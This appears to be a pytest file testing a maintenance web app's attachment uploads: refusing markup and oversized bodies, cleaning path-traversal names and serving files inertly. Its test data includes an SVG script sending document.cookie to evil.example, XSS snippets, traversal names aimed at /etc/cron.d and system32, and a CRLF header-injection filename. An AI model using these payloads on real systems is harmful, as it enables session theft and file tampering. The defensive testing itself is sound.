"""Attachments through the UI and the API: what is refused, where files land, how they are served.

Every upload route (a work order's page and API, an asset's page and API, the public QR report,
the checklist form) is sent a file that is HTML renamed ``.png``, an SVG carrying a script, a
200 MB body and a path-traversal name. Each is refused or stored inertly, and the test walks the
data directory to check that nothing was written outside ``attachments/<aa>/<sha256>``. The
200 MB body is never built: a stream object counts what the app reads of it, and a raw socket
sends it to the real waitress server until the server answers.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import socket
import struct
import threading
import zlib
from pathlib import Path

import pytest
from relational_support import T0_S, clock, csrf_from, hub_config, login, web

from wardlink.hub.db import session_scope
from wardlink.hub.db.models import AssetAttachment, AuditLog, WorkOrderAttachment
from wardlink.hub.services.actor import Actor
from wardlink.hub.services.maintenance import checklists, pm, pm_generator, workorders
from wardlink.hub.services.people import users
from wardlink.hub.services.people.permissions import can
from wardlink.hub.web.files import FILE_CSP
from wardlink.hub.web.ui import REPORTS_PER_ADDRESS
from sqlalchemy import select

SYSTEM = Actor.system("attachment-tests")
BIG = 200 * 1024 * 1024
HTML_AS_PNG = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/assets')</script></body></html>"
SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                   b"<script>document.location='https://evil.example/'+document.cookie</script></svg>")
ROLE_USERS = {"admin": "admin", "manager": "manager", "technician": "tech", "procurement": "buyer",
              "vendor": "vendor", "viewer": "viewer", "staff": "nurse"}


def png(width: int = 4, height: int = 3, seed: int = 0) -> bytes:
    """Return a valid RGB PNG (different bytes for each ``seed``)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = b"".join(b"\x00" + bytes(c for x in range(width)
                                     for c in ((seed + x * 40) % 256, 90, (200 - y * 30) % 256))
                    for y in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def files_under(root: Path) -> set[Path]:
    """Return every file below ``root``."""
    return {p for p in root.rglob("*") if p.is_file()}


def stored_paths(root: Path) -> set[Path]:
    """Return the files of the attachment store, each checked to be ``<aa>/<sha256>`` of its bytes."""
    out = set()
    for path in files_under(root / "attachments"):
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        assert path == root / "attachments" / digest[:2] / digest, path
        out.add(path)
    return out


class Counting(io.RawIOBase):
    """A request body of ``size`` bytes that is never held in memory; counts what is read."""

    def __init__(self, size: int, prefix: bytes = b"") -> None:
        self.size, self.prefix, self.pos, self.read_bytes = size, prefix, 0, 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.pos = {0: offset, 1: self.pos + offset, 2: self.size + offset}[whence]
        return self.pos

    def tell(self) -> int:
        return self.pos

    def readinto(self, buffer) -> int:
        n = min(len(buffer), self.size - self.pos)
        if n <= 0:
            return 0
        data = self.prefix[self.pos:self.pos + n] if self.pos < len(self.prefix) else b""
        buffer[:n] = data + b"\x00" * (n - len(data))
        self.pos += n
        self.read_bytes += n
        return n


def _order(web, state: str = "in_progress") -> int:
    with session_scope(web.engine) as s:
        nurse = users.find_user(s, "nurse")
        order = workorders.request_work(s, {"title": "Door seal torn", "asset_tag": "VF-0001"},
                                        actor=Actor.for_user(nurse), clock=web.clock)
        tech = users.find_user(s, "tech")
        workorders.transition(s, order.id, "assigned", {"assignee_id": tech.id}, actor=SYSTEM, clock=web.clock)
        if state == "in_progress":
            workorders.transition(s, order.id, "in_progress", {}, actor=SYSTEM, clock=web.clock)
        return order.id


def pm_order(web) -> int:
    """Generate a PM work order whose checklist has a measured value with a limit and a pass/fail item."""
    with session_scope(web.engine) as s:
        template = checklists.create_template(s, name="Electrical safety", actor=SYSTEM, clock=web.clock, items=[
            {"key": "leakage", "label": "Earth leakage current", "kind": "value", "unit": "µA", "high": 500},
            {"key": "alarm", "label": "Door alarm sounds", "kind": "pass_fail"},
            {"key": "remarks", "label": "Remarks", "kind": "text"}])
        pm.create_plan(s, {"name": "Annual safety test", "asset_tag": "VF-0001", "trigger": "calendar",
                           "interval_count": 12, "interval_unit": "month", "anchor_date": "2025-01-10",
                           "checklist_template_id": template.id}, actor=SYSTEM, clock=web.clock)
        [order_id] = pm_generator.generate_due(s, clock=web.clock).work_order_ids
        workorders.transition(s, order_id, "assigned", {"assignee_id": users.find_user(s, "tech").id},
                              actor=SYSTEM, clock=web.clock)
        return order_id


def _page_post(client, page_path: str, post_path: str, data: dict):
    token = csrf_from(client.get(page_path).text)
    return client.post(post_path, data={**data, "csrf_token": token}, content_type="multipart/form-data")


def _upload_routes(web, order_id: int):
    """(name, client, page to read the token from, upload path, file field, extra fields) per route."""
    tech = web.client("tech")
    return [
        ("work-order page", tech, f"/work-orders/{order_id}", f"/work-orders/{order_id}/files", "file", {}),
        ("asset page", tech, "/assets/VF-0001", "/assets/VF-0001/files", "file", {}),
        ("work-order API", tech, f"/work-orders/{order_id}", f"/api/v1/work-orders/{order_id}/attachments",
         "file", {}),
        ("asset API", tech, "/assets/VF-0001", "/api/v1/assets/VF-0001/attachments", "file", {}),
        ("QR report", web.app.test_client(), "/a/VF-0001", "/a/VF-0001", "photo",
         {"description": "The display flickers and goes dark"}),
    ]


@pytest.mark.parametrize("name, body", [("photo.png", HTML_AS_PNG), ("diagram.svg", SVG_WITH_SCRIPT),
                                        ("notes.txt", b"  <html><body onload=alert(1)>")])
def test_markup_is_refused_on_every_upload_route_and_nothing_is_written(web, name, body):
    order_id = _order(web)
    before = files_under(Path(web.config.data_dir))
    for route, client, page, path, field, extra in _upload_routes(web, order_id):
        response = _page_post(client, page, path, {**extra, field: (io.BytesIO(body), name, "image/png")})
        assert response.status_code == 400, (route, response.status_code)
        text = response.text
        assert "HTML, SVG and XML" in text or "not accepted" in text, (route, text[:500])
        assert "<script>fetch" not in text and "document.cookie" not in text
    assert files_under(Path(web.config.data_dir)) == before
    with session_scope(web.engine, readonly=True) as s:
        assert s.scalars(select(WorkOrderAttachment)).all() == []
        assert s.scalars(select(AssetAttachment)).all() == []
        assert workorders.list_work_orders(s, actor=None, source="qr").items == []


def test_a_200_mb_upload_is_refused_from_its_length_without_being_read(web):
    order_id = _order(web)
    before = files_under(Path(web.config.data_dir))
    for route, client, page, path, field, _extra in _upload_routes(web, order_id):
        token = csrf_from(client.get(page).text)
        prefix = (f"--B\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{token}\r\n"
                  f"--B\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"big.png\"\r\n"
                  "Content-Type: image/png\r\n\r\n").encode() + b"\x89PNG\r\n\x1a\n"
        body = Counting(BIG, prefix)
        response = client.post(path, input_stream=body, content_length=BIG,
                               content_type="multipart/form-data; boundary=B",
                               headers={"Accept": "application/json"} if "/api/" in path else {})
        assert response.status_code == 413, (route, response.status_code, response.text[:300])
        assert "MiB" in response.text and "Nothing was saved" in response.text
        assert body.read_bytes == 0, f"{route}: the app read {body.read_bytes} bytes of a refused body"
    assert files_under(Path(web.config.data_dir)) == before


def test_a_file_just_over_the_limit_inside_an_allowed_request_is_refused_with_the_limit(web):
    from wardlink.hub.services.maintenance.attachments import MAX_ATTACHMENT_BYTES

    order_id = _order(web)
    client = web.client("tech")
    data = b"\xff\xd8\xff" + b"\x00" * (MAX_ATTACHMENT_BYTES - 2)
    response = _page_post(client, f"/work-orders/{order_id}", f"/work-orders/{order_id}/files",
                          {"file": (io.BytesIO(data), "huge.jpg")})
    assert response.status_code == 400 and "at most 10 MiB" in response.text
    assert stored_paths(Path(web.config.data_dir)) == set()


def test_the_real_server_answers_413_to_a_200_mb_body_before_reading_it(tmp_path, clock, relational_url):
    from wardlink.hub.telemetry.sqlite import SQLiteStore
    from wardlink.hub.web import make_server

    store = SQLiteStore(tmp_path / "telemetry.db")
    server = make_server(hub_config(tmp_path, database_url=relational_url), threads=2, telemetry=store,
                         clock=clock, port=0)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    sent = 0
    try:
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
            sock.sendall(b"POST /a/VF-0001 HTTP/1.1\r\nHost: wardlink\r\n"
                         b"Content-Type: multipart/form-data; boundary=B\r\n"
                         + f"Content-Length: {BIG}\r\n\r\n".encode())
            chunk = b"\x00" * 65536
            sock.settimeout(0.05)
            answer = b""
            while sent < BIG and b"\r\n\r\n" not in answer:
                try:
                    answer += sock.recv(65536)
                    continue
                except TimeoutError:
                    pass
                except OSError:
                    break
                try:
                    sock.sendall(chunk)
                    sent += len(chunk)
                except OSError:
                    break
            sock.settimeout(10)
            while b"\r\n\r\n" not in answer:
                more = sock.recv(65536)
                if not more:
                    break
                answer += more
    finally:
        server.close()
        thread.join(timeout=10)
        store.close()
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert sent < 16 * 1024 * 1024, f"sent {sent} bytes before the server refused"
    assert stored_paths(tmp_path) == set()


@pytest.mark.parametrize("name, shown", [
    ("../../../../etc/cron.d/evil.png", "evil.png"),
    ("..\\..\\windows\\system32\\evil.png", "evil.png"),
    ("/var/lib/wardlink/secret_key", "secret_key"),
    ('a"b\r\nSet-Cookie: x=1;.png', "a"),
    ("....", "file"),
])
def test_path_traversal_names_are_cleaned_and_files_land_only_in_the_store(web, name, shown):
    order_id = _order(web)
    root = Path(web.config.data_dir)
    before = files_under(root)
    client = web.client("tech")
    photo = png(seed=len(name))
    response = _page_post(client, f"/work-orders/{order_id}", f"/work-orders/{order_id}/files",
                          {"file": (io.BytesIO(photo), name)})
    assert response.status_code == 303, response.text[:500]
    digest = hashlib.sha256(photo).hexdigest()
    assert files_under(root) - before == {root / "attachments" / digest[:2] / digest}
    with session_scope(web.engine, readonly=True) as s:
        [row] = s.scalars(select(WorkOrderAttachment).where(WorkOrderAttachment.work_order_id == order_id)).all()
        # however the client encoded the name, what is kept is one plain name ending as expected
        assert row.filename.endswith(shown) and not re.search(r'[/\\\r\n"]|^\.', row.filename), row.filename
    served = client.get(f"/work-orders/{order_id}/files/{row.id}?download=1")
    assert served.data == photo
    disposition = served.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=UTF-8''") and "/" not in disposition
    assert "\r" not in disposition and "\n" not in disposition and '"' not in disposition
    assert not any("x=1" in c for c in served.headers.getlist("Set-Cookie"))


def test_files_are_served_inertly_photos_inline_and_everything_else_as_a_download(web):
    order_id = _order(web)
    client = web.client("tech")
    page = f"/work-orders/{order_id}"
    photo, pdf, log = png(seed=7), b"%PDF-1.4\n% service report\n", b"Leakage 120 uA; alarm ok\n"
    for name, data in (("alarm.png", photo), ("report.pdf", pdf), ("log.txt", log)):
        assert _page_post(client, page, f"{page}/files", {"file": (io.BytesIO(data), name)}).status_code == 303
    html = client.get(page).text
    ids = {m.group(2): int(m.group(1)) for m in re.finditer(r'data-file="(\d+)">.*?file-name">([^<]+)<', html, re.S)}
    assert set(ids) == {"alarm.png", "report.pdf", "log.txt"}
    assert f'<img src="/work-orders/{order_id}/files/{ids["alarm.png"]}"' in html  # the thumbnail is the photo
    expected = {"alarm.png": ("image/png", "inline"), "report.pdf": ("application/pdf", "attachment"),
                "log.txt": ("text/plain; charset=utf-8", "attachment")}
    for name, (content_type, disposition) in expected.items():
        served = client.get(f"{page}/files/{ids[name]}")
        assert served.status_code == 200
        assert served.headers["Content-Type"] == content_type
        assert served.headers["Content-Disposition"] == f"{disposition}; filename*=UTF-8''{name}"
        assert served.headers["X-Content-Type-Options"] == "nosniff"
        assert served.headers["Content-Security-Policy"] == FILE_CSP and "sandbox" in FILE_CSP
        assert served.headers["Cache-Control"] == "no-store"
        download = client.get(f"{page}/files/{ids[name]}?download=1")
        assert download.headers["Content-Disposition"].startswith("attachment;")
    api = client.get(f"/api/v1/work-orders/{order_id}/attachments/{ids['alarm.png']}")
    assert api.headers["Content-Disposition"].startswith("attachment;")
    assert api.headers["Content-Security-Policy"] == FILE_CSP
    with session_scope(web.engine, readonly=True) as s:
        rows = s.scalars(select(AuditLog).where(AuditLog.action == "workorder.attach",
                                                AuditLog.entity_id == str(order_id))).all()
        assert sorted(json.loads(r.after_json)["filename"] for r in rows) == ["alarm.png", "log.txt", "report.pdf"]
        assert {r.actor for r in rows} == {"tech"}


def test_asset_files_upload_list_serve_audit_and_follow_the_asset_permissions(web):
    client = web.client("tech")
    photo = png(seed=3)
    response = _page_post(client, "/assets/VF-0001", "/assets/VF-0001/files",
                          {"file": (io.BytesIO(photo), "rating-plate.png")})
    assert response.status_code == 303
    page = client.get("/assets/VF-0001").text
    file_id = int(re.search(r'data-file="(\d+)"', page).group(1))
    assert "rating-plate.png" in page and f'<img src="/assets/VF-0001/files/{file_id}"' in page
    listed = client.get("/api/v1/assets/VF-0001/attachments").json
    assert [(f["filename"], f["content_type"], f["size"]) for f in listed] == [
        ("rating-plate.png", "image/png", len(photo))]
    api = web.app.test_client()
    assert login(api, "manager").status_code == 302
    token = csrf_from(api.get("/account").text)
    sent = api.post("/api/v1/assets/VF-0001/attachments", headers={"X-CSRF-Token": token},
                    data={"file": (io.BytesIO(b"%PDF-1.7 manual"), "manual.pdf")}, content_type="multipart/form-data")
    assert sent.status_code == 201 and sent.json["content_type"] == "application/pdf"
    download = api.get(sent.json["url"])
    assert download.data == b"%PDF-1.7 manual" and download.headers["Content-Disposition"].startswith("attachment;")
    with session_scope(web.engine, readonly=True) as s:
        rows = s.scalars(select(AuditLog).where(AuditLog.action == "asset.attach").order_by(AuditLog.seq)).all()
        assert [(r.actor, r.entity, r.entity_id, json.loads(r.after_json)["filename"]) for r in rows] == [
            ("tech", "asset", "VF-0001", "rating-plate.png"), ("manager", "asset", "VF-0001", "manual.pdf")]
    for role, username in ROLE_USERS.items():
        actor = Actor(username=username, role=role)
        got = web.client(username).get(f"/assets/VF-0001/files/{file_id}").status_code
        assert got == (200 if can(actor, "asset.view") else 403), (role, got)
        upload = _page_post(web.client(username), "/account", "/assets/VF-0001/files",
                            {"file": (io.BytesIO(png(seed=99)), "x.png")}).status_code
        assert upload == (303 if can(actor, "asset.update") else 403), (role, upload)


def test_order_files_answer_each_role_as_the_order_page_does(web):
    order_id = _order(web)
    with session_scope(web.engine) as s:
        row = workorders.add_attachment(s, order_id, filename="door.png", data=png(seed=5), actor=SYSTEM,
                                        store=_store(web), clock=web.clock)
        file_id = row.id
    for role, username in ROLE_USERS.items():
        client = web.client(username)
        page = client.get(f"/work-orders/{order_id}").status_code
        got = client.get(f"/work-orders/{order_id}/files/{file_id}").status_code
        assert got == page and page in (200, 403, 404), (role, page, got)
        assert client.get(f"/work-orders/{order_id}/files/{file_id + 1000}").status_code in (403, 404)


def _store(web):
    from wardlink.hub.services.maintenance.attachments import AttachmentStore

    return AttachmentStore(Path(web.config.data_dir) / "attachments")


def test_a_qr_report_carries_one_photo_images_only_and_is_rate_limited_with_the_report(web):
    client = web.app.test_client()
    photo = png(seed=11)
    sent = _page_post(client, "/a/VF-0001", "/a/VF-0001", {"description": "Alarm beeping, door does not seal",
                                                           "photo": (io.BytesIO(photo), "IMG_0042.PNG")})
    assert sent.status_code == 200, sent.text[:500]
    refused = _page_post(client, "/a/VF-0001", "/a/VF-0001", {"description": "Here is the service manual page",
                                                              "photo": (io.BytesIO(b"%PDF-1.4 x"), "m.pdf")})
    assert refused.status_code == 400 and "JPEG, PNG, WebP" in refused.text
    assert "Here is the service manual page" in refused.text  # what was typed is kept
    with session_scope(web.engine, readonly=True) as s:
        [order] = workorders.list_work_orders(s, actor=None, source="qr").items
        [row] = s.scalars(select(WorkOrderAttachment).where(WorkOrderAttachment.work_order_id == order.id)).all()
        assert (row.filename, row.content_type, row.uploaded_by) == ("IMG_0042.PNG", "image/png", "qr-report")
    codes = [_page_post(client, "/a/VF-0001", "/a/VF-0001", {
        "description": f"Report {i} of the same fault", "photo": (io.BytesIO(png(seed=20 + i)), "p.png")}).status_code
        for i in range(REPORTS_PER_ADDRESS)]
    assert codes[-1] == 429 and codes.count(200) == REPORTS_PER_ADDRESS - 2


def test_the_checklist_form_judges_on_the_server_opens_corrective_work_and_keeps_item_photos(web):
    order_id = pm_order(web)
    client = web.client("tech")
    page = client.get(f"/work-orders/{order_id}").text
    assert 'data-limit-high="500.0"' in page and 'data-unit="µA"' in page
    assert 'accept="image/*" capture="environment"' in page
    photo = png(seed=42)
    response = _page_post(client, f"/work-orders/{order_id}", f"/work-orders/{order_id}/checklist", {
        "value-leakage": "640", "result-alarm": "pass", "text-remarks": "Plug replaced",
        "comment-leakage": "Measured twice", "photo-leakage": (io.BytesIO(photo), "meter.png")})
    assert response.status_code == 303, response.text[:800]
    shown = client.get(f"/work-orders/{order_id}")
    assert "Corrective work opened" in shown.text
    link = re.search(r'<a href="/work-orders/(\d+)">Open the corrective work order for this item', shown.text)
    assert link is not None
    with session_scope(web.engine, readonly=True) as s:
        from wardlink.hub.services.maintenance import pm_work

        sheet = pm_work.checklist_for(s, order_id, actor=SYSTEM)
        results = {r["key"]: r for r in sheet.result.results}
        assert (results["leakage"]["outcome"], results["leakage"]["value"]) == ("fail", 640.0)
        assert results["alarm"]["outcome"] == "pass" and not sheet.result.passed and sheet.result.complete
        corrective = workorders.get_work_order(s, int(link.group(1)), actor=SYSTEM)
        assert corrective.parent_id == order_id and corrective.source == "checklist"
        [row] = s.scalars(select(WorkOrderAttachment).where(WorkOrderAttachment.work_order_id == order_id)).all()
        assert (row.checklist_item, row.content_type) == ("leakage", "image/png")
        audit = s.scalars(select(AuditLog).where(AuditLog.action == "checklist.record",
                                                 AuditLog.entity_id == str(order_id))).all()
        assert len(audit) == 1 and json.loads(audit[0].after_json)["correctives"] == [corrective.id]
    assert f'/work-orders/{order_id}/files/{row.id}"' in shown.text
    bad = _page_post(client, f"/work-orders/{order_id}", f"/work-orders/{order_id}/checklist", {
        "value-leakage": "12 uA", "result-alarm": "pass", "photo-alarm": (io.BytesIO(SVG_WITH_SCRIPT), "a.png")})
    assert bad.status_code == 400 and "must be a number" in bad.text
    assert 'value="12 uA"' in bad.text  # the typed value is kept for correction


def test_a_checklist_photo_through_the_api_must_name_an_item_and_be_an_image(web):
    order_id = pm_order(web)
    api = web.app.test_client()
    assert login(api, "tech").status_code == 302
    token = csrf_from(api.get("/account").text)
    url = f"/api/v1/work-orders/{order_id}/attachments"

    def send(data: bytes, name: str, **fields):
        return api.post(url, headers={"X-CSRF-Token": token}, content_type="multipart/form-data",
                        data={"file": (io.BytesIO(data), name), **fields})
    assert send(png(seed=1), "p.png", checklist_item="nope").status_code == 400
    assert send(b"%PDF-1.4", "p.pdf", checklist_item="leakage").status_code == 400
    ok = send(png(seed=1), "p.png", checklist_item="leakage")
    assert ok.status_code == 201 and ok.json["checklist_item"] == "leakage"
    recorded = api.put(f"/api/v1/work-orders/{order_id}/checklist", headers={"X-CSRF-Token": token},
                       json={"answers": {"leakage": {"value": 120}, "alarm": {"result": "pass"}}})
    assert recorded.status_code == 200 and recorded.json["result"]["passed"] is True


def test_uploads_and_checklist_saves_answer_each_role_as_the_permission_table_says(web):
    order_id, pm_id = _order(web), pm_order(web)
    for role, username in ROLE_USERS.items():
        client, actor = web.client(username), Actor(username=username, role=role)
        token = csrf_from(client.get("/account").text)
        sees = client.get(f"/work-orders/{order_id}").status_code
        upload = client.post(f"/work-orders/{order_id}/files", content_type="multipart/form-data", data={
            "csrf_token": token, "file": (io.BytesIO(png(seed=200 + len(role))), f"{role}.png")}).status_code
        if sees != 200:
            assert upload == sees, (role, sees, upload)
        else:
            assert upload == (303 if can(actor, "workorder.comment") else 403), (role, upload)
        sees_pm = client.get(f"/work-orders/{pm_id}").status_code
        saved = client.post(f"/work-orders/{pm_id}/checklist", content_type="multipart/form-data", data={
            "csrf_token": token, "value-leakage": "100"}).status_code
        if sees_pm != 200:
            assert saved == sees_pm, (role, sees_pm, saved)
        else:
            assert saved == (303 if can(actor, "pm.record") else 403), (role, saved)
